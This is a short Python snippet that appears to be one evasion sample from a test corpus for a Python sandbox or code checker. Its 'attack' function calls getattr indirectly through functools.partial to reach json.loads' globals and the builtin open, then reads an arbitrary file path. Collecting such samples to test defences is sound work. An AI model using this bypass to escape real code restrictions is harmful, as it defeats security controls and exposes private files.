# `getattr` is kept in a partial, and told its name by keyword or by place.
# after: read
# source: own
import json
from functools import partial
def attack(path, **_):
    found = partial(getattr, json.loads)("__globals__")
    return {"text": found["__builtins__"]["open"](path).read()}
